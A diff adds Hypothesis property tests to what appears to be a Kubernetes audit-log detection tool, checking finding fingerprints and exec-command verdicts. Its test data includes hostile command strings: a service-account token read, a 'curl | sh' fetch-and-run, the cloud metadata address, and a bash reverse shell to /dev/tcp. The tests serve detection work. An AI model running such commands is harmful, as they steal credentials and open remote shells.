@@ -163,3 +163,57 @@ def test_escaped_lists_remembered_across_events_equal_escaping(items, more) -> N
 
     for v in [items, *more, items, [1, "a"], {"k\n": ["x\x1b"]}, ("t\n",)]:
         assert _clean_value(v) == clean_any(v)
+
+
+@settings(max_examples=300, deadline=None)
+@given(TEXT, TEXT, TEXT, st.lists(st.tuples(st.sampled_from(["a", "anomaly", "requestURI?command"]), VALUE),
+                                  max_size=3), st.booleans())  # fmt: skip
+def test_factory_fingerprint_and_evidence_json_equal_the_reference(
+    user, name, msg, evidence, foreign
+) -> None:
+    """The factory's fingerprint (the identity encoded once per event) is findings.fingerprint of the
+    rule and identity with the shown evidence's JSON; the evidence JSON it hands to json_line is what
+    json_line would dump (values it cannot write, an anomaly note: none handed over)."""
+    from kubestrata.detect.catalogue import CATALOGUE
+    from kubestrata.detect.factory import FindingFactory
+    from kubestrata.detect.jsonlines import json_line
+    from kubestrata.detect.rules import Hit
+    from kubestrata.findings import fingerprint
+
+    ev = _event(user or "u", "kubectl", name, "10.0.0.1", "exec?command=id")
+    if foreign:
+        evidence = [*evidence, ("b", {1, 2})]  # not JSON: the fingerprint writes str(value)
+    build = FindingFactory()
+    for rid in ("KS-AUD-F11", "KS-AUD-G42"):  # two findings of one event
+        f = build(CATALOGUE[rid], Hit(rid, msg, list(evidence)), ev)
+        shown = [{"path": e.path, "value": e.observed} for e in f.evidence if e.path != "anomaly"]
+        identity = (rid, ev.cluster, ev.user, ev.verb, ev.resource, ev.subresource, ev.namespace, ev.name)
+        assert f.fingerprint == fingerprint(("\x1f".join(identity),), orjson.dumps(shown, default=str))
+        if f.evidence_json is not None:
+            assert f.evidence_json == orjson.dumps(
+                [{"path": e.path, "value": e.observed} for e in f.evidence]
+            )
+        if not foreign:
+            assert json_line(f) == orjson.dumps(f.to_dict())
+        assert (f.evidence_json is None) == (foreign or any(p == "anomaly" for p, _ in evidence))
+
+
+CMD = st.lists(st.sampled_from(["tar", "cf", "-", "sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+                                "curl http://x | sh", "169.254.169.254", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "id"]),
+               max_size=4)  # fmt: skip
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(CMD, min_size=1, max_size=6))
+def test_exec_verdicts_remembered_across_events_equal_searching_each_command(cmds) -> None:
+    from urllib.parse import quote
+
+    from kubestrata.detect.rules.native_exec import _SUSPICIOUS, SA_TOKEN, _is_tar_to_stdout, _verdict
+
+    for cmd in cmds:
+        uri = "/api/v1/namespaces/ns/pods/web/exec?" + "&".join("command=" + quote(a) for a in cmd)
+        ev = AuditEvent({**_event("u", "ua", "web", "10.0.0.1", "").raw, "requestURI": uri})
+        text = " ".join(cmd)
+        want = (_is_tar_to_stdout(cmd), bool(cmd and SA_TOKEN.search(text)),
+                tuple(why for rx, why in _SUSPICIOUS if rx.search(text)))  # fmt: skip
+        assert tuple(_verdict(ev)) == want
